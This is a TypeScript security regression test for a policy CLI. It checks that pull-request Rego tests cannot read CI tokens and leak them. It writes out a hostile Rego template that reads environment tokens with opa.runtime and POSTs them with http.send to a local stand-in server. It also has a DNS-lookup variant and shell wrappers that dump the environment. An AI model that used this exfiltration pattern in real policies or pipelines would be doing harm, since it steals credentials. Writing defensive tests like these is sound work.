import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCliAsync } from '../helpers/cli-async.js';
import { ROOT } from '../helpers/cli.js';
import { REAL_OPA, tempDir } from '../helpers/policies.js';

/**
 * Issue 14, item 1: `policy test` runs Rego that a pull request wrote. With every opa builtin available, a
 * *_test.rego could read opa.runtime().env (GITHUB_TOKEN, SHAREGUARD_GRAPH_TOKEN) and http.send it anywhere,
 * and the run still said "1 passed". These tests replay that against a stand-in server on 127.0.0.1: the
 * server must receive nothing and the run must fail (exit 2) naming the builtin.
 */

const SECRETS = { GITHUB_TOKEN: 'ghs_sg14_github_secret', SHAREGUARD_GRAPH_TOKEN: 'sg14_graph_secret' };

let server: http.Server;
let url: string;
const received: string[] = [];

beforeAll(async () => {
  server = http.createServer((req, res) => {
    let body = '';
    req.on('data', (d: Buffer) => (body += d.toString('utf8')));
    req.on('end', () => {
      received.push(`${req.method} ${req.url} ${body}`);
      res.setHeader('content-type', 'application/json');
      res.end('{}');
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});

afterAll(async () => {
  await new Promise<void>((resolve) => server.close(() => resolve()));
});

/** A policy directory (one real example control) plus the hostile test file. */
function policyDirWith(name: string, testFile: string): string {
  const dir = tempDir(name);
  const policies = path.join(dir, 'policies');
  fs.mkdirSync(policies);
  fs.copyFileSync(path.join(ROOT, 'examples/policies/http_flow_run_only/http_flow_run_only.rego'), path.join(policies, 'http_flow_run_only.rego'));
  fs.writeFileSync(path.join(policies, 'leak_test.rego'), testFile);
  return policies;
}

const EXFILTRATE = (target: string) => `package shareguard.custom.leak_test

test_leak if {
	env := opa.runtime().env
	http.send({"method": "POST", "url": "${target}/leak", "body": {"gh": env.GITHUB_TOKEN, "graph": env.SHAREGUARD_GRAPH_TOKEN}})
}
`;

describe('policy test cannot send the environment anywhere', () => {
  it('a test calling opa.runtime and http.send is refused by name, and the server receives nothing', async () => {
    const policies = policyDirWith('leak', EXFILTRATE(url));
    const r = await runCliAsync(['policy', 'test', policies, '--cache-dir', path.join(path.dirname(policies), 'cache')], SECRETS, 60_000);
    expect(received).toEqual([]);
    expect(r.code, r.stderr + r.stdout).toBe(2);
    expect(r.stderr).toMatch(/leak_test\.rego:4:\d+: rego_type_error: undefined function opa\.runtime/);
    expect(r.stderr).toMatch(/leak_test\.rego:5:\d+: rego_type_error: undefined function http\.send: .*WebAssembly runtime/);
    expect(r.stdout).not.toContain('passed');
    expect(`${r.stdout}${r.stderr}`).not.toContain(SECRETS.GITHUB_TOKEN);
  });

  it('a DNS lookup (net.lookup_ip_addr) is refused too: no network builtin is reachable', async () => {
    const policies = policyDirWith('dns', `package shareguard.custom.leak_test

test_dns if {
	count(net.lookup_ip_addr("sg14.invalid")) >= 0
}
`);
    const r = await runCliAsync(['policy', 'test', policies, '--cache-dir', path.join(path.dirname(policies), 'cache')], SECRETS, 60_000);
    expect(r.code, r.stderr + r.stdout).toBe(2);
    expect(r.stderr).toMatch(/leak_test\.rego:4:\d+: rego_type_error: undefined function net\.lookup_ip_addr/);
  });

  it('opa test itself runs with the restricted capabilities: with every opa check passing, the test still cannot run', async () => {
    // An opa whose `check` always passes: the build's check of the policies is out of the way, and what is left between the test file and the network is opa test's
    // own --capabilities.
    const policies = policyDirWith('nocheck', EXFILTRATE(url));
    const dir = path.dirname(policies);
    const lax = path.join(dir, 'opa');
    fs.writeFileSync(lax, `#!/bin/sh\nif [ "$1" = check ]; then exit 0; fi\nexec "${REAL_OPA}" "$@"\n`, { mode: 0o755 });
    const r = await runCliAsync(['policy', 'test', policies, '--cache-dir', path.join(dir, 'cache')], { ...SECRETS, SHAREGUARD_OPA: lax }, 60_000);
    expect(received).toEqual([]);
    expect(r.code, r.stderr + r.stdout).toBe(2);
    expect(r.stderr).toMatch(/undefined function (http\.send|opa\.runtime)/);
  });

  it('opa is started with a clean environment: no token reaches it in policy test or policy build (the compile of scan --policy)', async () => {
    const dir = tempDir('opa-env');
    const dump = path.join(dir, 'env.log');
    const spy = path.join(dir, 'opa');
    fs.writeFileSync(spy, `#!/bin/sh\nenv >> "${dump}"\nexec "${REAL_OPA}" "$@"\n`, { mode: 0o755 });
    const env = { ...SECRETS, SHAREGUARD_OPA: spy, OPA_SG14_PROBE: 'x' };
    const cache = path.join(dir, 'cache');
    const policies = path.join(ROOT, 'examples/policies');
    const test = await runCliAsync(['policy', 'test', path.join(policies, 'http_flow_run_only'), '--cache-dir', cache], env, 60_000);
    expect(test.code, test.stderr).toBe(0);
    const build = await runCliAsync(['policy', 'build', policies, '-o', path.join(dir, 'b.tar.gz'), '--cache-dir', path.join(dir, 'cache2')], env, 60_000);
    expect(build.code, build.stderr).toBe(0);
    const seen = fs.readFileSync(dump, 'utf8');
    expect(seen).not.toBe('');
    expect(seen).not.toContain('GITHUB_TOKEN');
    expect(seen).not.toContain(SECRETS.GITHUB_TOKEN);
    expect(seen).not.toContain('SHAREGUARD_GRAPH_TOKEN');
    expect(seen).not.toContain(SECRETS.SHAREGUARD_GRAPH_TOKEN);
    expect(seen).not.toContain('OPA_SG14_PROBE');
  });
});
